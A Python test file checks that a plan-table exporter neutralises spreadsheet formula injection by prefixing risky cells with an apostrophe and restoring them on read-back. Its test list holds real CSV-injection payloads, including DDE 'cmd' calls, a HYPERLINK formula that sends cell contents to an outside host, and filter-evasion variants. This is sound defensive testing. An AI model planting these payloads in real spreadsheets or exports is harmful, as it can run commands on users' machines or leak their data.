"""Text that a spreadsheet would run stays text, in every kind of file, and comes back as it was."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from bot.exporting.table import Format, PlanTable, TableColumn, TableRow
from documents.delimited import read_delimited
from documents.formulas import guarded, is_risky, unguarded
from documents.written import written

AT = datetime(2026, 11, 22, 9, 0, tzinfo=UTC)

# OWASP's examples, and what others have got past filters with.
RISKY = (
    "=1+1",
    '=HYPERLINK("http://example.org/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    '=1+1";=1+1',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u200b=1+1",
    "%0A-3+3",
    "|calc",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(1)",
    '=IMPORTXML(CONCAT("http://example.org"), "//a")',
    "- see minute 6.2",
)
HARMLESS = (
    "",
    "12",
    "-12",
    "+12.5",
    "-1,200",
    "-5%",
    ".5",
    "1.10",
    "Café",
    "'quoted'",
    "a=b",
    "end - start",
    "–",
)


@pytest.mark.parametrize("text", RISKY)
def test_risky_text_is_guarded_and_comes_back(text: str) -> None:
    assert is_risky(text)
    assert guarded(text) == "'" + text
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_left_alone(text: str) -> None:
    assert guarded(text) == text
    assert unguarded(text) == text


def table(*texts: str) -> PlanTable:
    columns = (TableColumn("Ref", 7), TableColumn("Action", 30))
    rows = tuple(TableRow((f"1.{number}", text)) for number, text in enumerate(texts, start=1))
    return PlanTable("=A plan", ("+As at today",), columns, rows, "footer", "@OFFICIAL")


def test_a_guarded_cell_is_read_back_without_its_guard() -> None:
    content = written(table("=1+1", "- see minute 6.2", "'tis so"), Format.CSV, AT)
    read = read_delimited(content, "plan.csv", has_pages=False)
    assert [row.text(1) for row in read.rows] == ["Action", "=1+1", "- see minute 6.2", "'tis so"]


def test_control_characters_stop_no_file_from_being_written() -> None:
    for kind in Format:
        assert written(table("a\x00b\x0bc\x1fd￾"), kind, AT)
